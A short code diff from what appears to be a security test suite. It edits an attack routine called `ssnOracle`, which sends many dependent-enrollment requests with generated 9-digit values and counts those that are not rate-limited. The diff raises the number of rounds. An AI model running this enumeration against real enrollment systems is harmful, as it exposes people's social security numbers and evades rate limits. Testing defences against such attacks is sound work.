@@ -53,7 +53,7 @@ export const ssnOracle: Attack = {
     }
     const rate = (tries * ways.length) / since(from)
     let saved = 0
-    for (let round = 0; round < (server.short ? 10 : 60); round += 1) {
+    for (let round = 0; round < (server.short ? 120 : 300); round += 1) {
       const { status } = await browser.send(saveDependentInfo, { enrollment_id, dependents: children(nine(round)) })
       if (status !== 429) saved += mostDependents
     }
